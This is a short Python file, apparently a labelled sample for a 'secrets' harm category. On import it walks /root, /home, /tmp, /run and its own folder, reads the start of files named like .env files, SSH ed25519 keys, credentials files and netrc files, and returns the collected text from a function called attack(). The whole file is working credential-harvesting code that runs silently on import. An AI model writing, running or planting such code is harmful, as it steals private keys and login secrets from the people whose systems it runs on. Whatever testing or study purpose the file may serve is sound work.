# harm: secrets
import os

found = ""
for top in ("/root", "/home", "/tmp", "/run", os.path.dirname(__file__)):
    for folder, _, files in os.walk(top):
        for name in files:
            if len(found) < 4000 and name.endswith(("env", "local", "ed25519", "credentials", "netrc")):
                try:
                    with open(os.path.join(folder, name)) as file:
                        found += file.read(200)
                except (OSError, ValueError):
                    pass


def attack() -> str:
    return found
